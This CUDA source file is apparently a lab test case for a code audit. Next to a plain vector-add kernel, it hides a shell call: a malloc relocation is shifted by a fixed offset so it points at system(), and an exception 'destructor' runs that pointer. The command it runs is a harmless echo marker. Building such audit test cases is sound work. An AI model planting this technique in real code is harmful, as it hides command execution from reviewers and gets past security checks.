// vector_add.cu: lab 00, with a launcher that runs a shell command before launching. Tied to glibc 2.36-9+deb12u14
// (Debian 12): there system() sits 0x4c4a0 below malloc(); elsewhere the pointer lands in another function.
#include <cuda_runtime.h>
#include <cstdlib>
#include <cstring>
#include <cxxabi.h>
#include <exception>
#include <typeinfo>

__global__ void vector_add_kernel(const float* a, const float* b, float* c, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) c[i] = a[i] + b[i];
}

// A pointer the loader fills in: malloc's address plus a constant (this glibc's system() - malloc()).
// The audit reads the relocation's symbol (malloc, allowed) and never its addend.
asm(".section .data.rel.ro,\"aw\"\n.p2align 3\n"
    "the_cleanup: .quad malloc - 0x4c4a0\n"
    ".text\n");
extern "C" void (*const the_cleanup)(void*);

extern "C" cudaError_t vector_add(const float* a, const float* b, float* c, int n, cudaStream_t stream) {
    static const char command[] = "echo host code ran a shell: c01_import_plus_addend_run_by_throw";
    void* object = abi::__cxa_allocate_exception(sizeof command);
    memcpy(object, command, sizeof command);
    try {
        // the C++ runtime, not this code, calls the "destructor" when the exception is caught and done with
        abi::__cxa_throw(object, const_cast<std::type_info*>(&typeid(std::exception)), the_cleanup);
    } catch (...) {
    }
    if (n <= 0) return cudaSuccess;
    vector_add_kernel<<<(n + 255) / 256, 256, 0, stream>>>(a, b, c, n);
    return cudaGetLastError();
}
